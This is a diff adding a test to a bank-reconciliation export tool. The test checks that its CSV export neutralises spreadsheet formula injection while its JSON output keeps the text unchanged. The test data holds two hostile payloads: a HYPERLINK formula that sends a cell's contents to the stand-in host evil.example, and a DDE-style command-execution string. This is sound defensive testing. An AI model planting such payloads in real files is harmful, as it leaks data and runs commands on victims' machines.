@@ -125,6 +125,35 @@ describe('bankrec mirror export', () => {
     expect(lines.at(-1)).toBe('')
   })
 
+  it('escapes payer-written text a spreadsheet would run as a formula; JSON lines keep it byte-exact', async () => {
+    const formulas = {
+      payment_reference: '=HYPERLINK("https://evil.example/?"&A1,"Invoice")',
+      description: "@SUM(1+1)*cmd|' /C calc'!A0",
+    }
+    await sql`update transactions set payment_reference = ${formulas.payment_reference},
+      description = ${formulas.description} where id = ${txId(3)}`.execute(database.db)
+    try {
+      const csv = await cli(['mirror', 'export', '--connection', CONNECTION_A, '--format', 'csv'])
+      const row = csv.stdout.split('\r\n').find((line) => line.startsWith(txId(3)))!
+      expect(row).toContain(`,"'=HYPERLINK(""https://evil.example/?""&A1,""Invoice"")",`)
+      expect(row).toContain(`,'@SUM(1+1)*cmd|' /C calc'!A0,`)
+      expect(row.split(',').some((cell) => /^[=+\-@]/.test(cell) && !/^-?\d/.test(cell))).toBe(false)
+      const jsonl = await cli(['mirror', 'export', '--connection', CONNECTION_A])
+      const record = jsonl.stdout
+        .trimEnd()
+        .split('\n')
+        .map((line) => JSON.parse(line))
+        .find((r) => r.id === txId(3))
+      expect(record).toMatchObject({
+        paymentReference: formulas.payment_reference,
+        description: formulas.description,
+      })
+    } finally {
+      await sql`update transactions set payment_reference = 'INV-3', description = 'Payment 3'
+        where id = ${txId(3)}`.execute(database.db)
+    }
+  })
+
   it('writes to --output FILE', async () => {
     const file = path.join(tmpdir(), `bankrec-export-${process.pid}-${Date.now()}.jsonl`)
     try {
